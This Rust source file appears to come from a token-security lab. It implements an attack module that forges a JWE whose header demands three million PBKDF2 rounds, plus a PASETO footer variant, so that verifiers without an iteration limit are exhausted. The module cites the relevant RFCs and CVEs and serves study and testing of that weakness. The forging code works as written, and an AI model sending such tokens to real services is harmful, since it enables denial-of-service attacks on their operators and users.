//! The iteration bomb: a token that says how much work its verifier has to do.
//!
//! The flawed assumption: a parameter of the cryptography is the issuer's. With
//! a password as the key (RFC 7518 §4.8) the header carries the number of
//! PBKDF2 rounds, `p2c`, and the verifier has to do them before it can find out
//! that nobody who knows the password wrote it. One small request, minutes of
//! work. The draft that revises RFC 8725 demands a limit (§2.10, §3.13). Bitten:
//! npm jose (CVE-2022-36083), PyPI jwcrypto (CVE-2023-6681), crate josekit to
//! 0.8.4.
//!
//! No other family lets a token ask for work of that kind. PASERK's wrapping by
//! passwords carries its cost in the blob as well, and nothing but the rule that
//! such a blob never travels in a footer keeps it from a verifier.

use serde_json::{Map, Value};
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::jwe::{self, Recipient};
use crate::mint;
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct JweP2cDos;

static PROFILE: AttackProfile = AttackProfile {
    id: "jwe-p2c-dos",
    title: "Token that asks for millions of PBKDF2 rounds",
    assumption: "How much work a password costs is for the issuer to say, and the issuer wrote the header.",
    class: AttackClass::Encryption,
    given: &[],
    isolated: true,
    breaks: &[Weakness::UnlimitedIterations, Weakness::FooterUnauthenticated],
    references: &[
        (
            "RFC 7518 §4.8.1.2",
            "p2c is the number of PBKDF2 rounds, and 1,000 or more are recommended; there is no upper limit.",
        ),
        (
            "draft-ietf-oauth-rfc8725bis §2.10",
            "A large iteration count makes a verifier spend its time on a token that nobody signed.",
        ),
        (
            "draft-ietf-oauth-rfc8725bis §3.13",
            "Iteration counts have an upper limit, twice the recommended 600,000 for instance.",
        ),
        (
            "CVE-2022-36083",
            "npm jose to 1.28.1, 2.0.5, 3.20.3 and 4.9.1, fixed in 1.28.2, 2.0.6, 3.20.4 and 4.9.2.",
        ),
        ("CVE-2023-6681", "PyPI jwcrypto before 1.5.1, fixed in 1.5.1."),
        (
            "josekit issue 29",
            "The crate josekit to 0.8.4 has no limit; since 0.8.5 it is 1,000,000.",
        ),
        (
            "PASERK, PBKW",
            "A key wrapped by a password carries its cost as well, and is never to stand in a footer.",
        ),
    ],
    lesson: include_str!("../../lessons/jwe-p2c-dos.md"),
};

/// Beyond what anybody allows, and still an end to the waiting.
const ROUNDS: u64 = 3_000_000;

const VARIANT: &str = "three-million-rounds";

impl Attack for JweP2cDos {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let token = bomb(view, notes)?;
        let (why, instead) = match view.scheme() {
            Scheme::Jwt(_) | Scheme::Jwe(..) => return Ok(vec![Forgery::new(VARIANT, token)]),
            Scheme::Paseto(..) => (
                "PASETO has no passwords and no header that could ask for work",
                "the footer asks for the rounds, since a PASETO has no header for them",
            ),
            Scheme::Biscuit => (
                "a biscuit has no password, and the cost of its signatures is fixed",
                "a JWE under a password stands where the biscuit belongs",
            ),
            Scheme::Session(_) => (
                "the id of a session is looked up, and nothing in it asks for work",
                "a JWE under a password stands where the id belongs",
            ),
        };
        let token = match view.scheme() {
            Scheme::Paseto(..) => {
                let footer = Value::Object(Map::from_iter([count()])).to_string();
                notes.variant_step(
                    VARIANT,
                    "Writes the same wish into the footer of her own token.",
                    footer.as_str(),
                );
                with_footer(view.sample(), &footer)
            }
            _ => token,
        };
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried: vec![Forgery::analogue(VARIANT, token, instead).to_be_believed()],
        })
    }
}

/// A JWE under a password that she doesn't know. Nobody finds out before the
/// rounds are done.
fn bomb(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<String, CannotForge> {
    let header = Map::from_iter([
        ("typ".to_owned(), Value::from("JWT")),
        ("p2s".to_owned(), Value::from(mint::part([0; 16]))),
        count(),
    ]);
    notes.variant_step(
        VARIANT,
        format!("Asks for {ROUNDS} rounds of PBKDF2 where the issuer has a thousand or so."),
        Value::Object(header.clone()).to_string(),
    );
    notes.variant_step(
        VARIANT,
        "Encrypts under a key of her own; that it is the wrong one shows after the rounds.",
        "",
    );
    let payload = mint::jwt_payload(view.wanted())?;
    Ok(jwe::seal(
        &Recipient::Pbes2([0; 32]),
        &header,
        payload.as_bytes(),
    )?)
}

fn count() -> (String, Value) {
    ("p2c".to_owned(), ROUNDS.into())
}

/// A PASETO with another footer, which its tag or signature does not cover.
fn with_footer(token: &str, footer: &str) -> String {
    let parts: Vec<&str> = token.split('.').take(3).collect();
    format!("{}.{}", parts.join("."), mint::part(footer))
}
